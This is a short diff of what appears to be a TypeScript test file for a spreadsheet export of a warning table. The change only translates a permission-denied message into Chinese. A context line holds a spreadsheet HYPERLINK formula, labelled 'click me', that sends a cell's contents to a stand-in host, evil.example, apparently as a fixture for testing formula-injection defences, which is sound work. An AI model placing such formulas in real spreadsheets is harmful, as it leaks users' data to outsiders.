@@ -21,7 +21,7 @@ const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点我")';
 /** A library and an object task of 信息工程学院 owned by 陈静 (rwfzr), for the warning table. */
 const LIB = 'lxe-lib';
 const OBJ_TASK = 'lxe-obj-task';
-const NO_PERMISSION = { meta: { success: false, message: 'user has no permission to access this resource' }, data: null };
+const NO_PERMISSION = { meta: { success: false, message: '用户无权访问该资源' }, data: null };
 
 interface Sheet {
   header: string[];
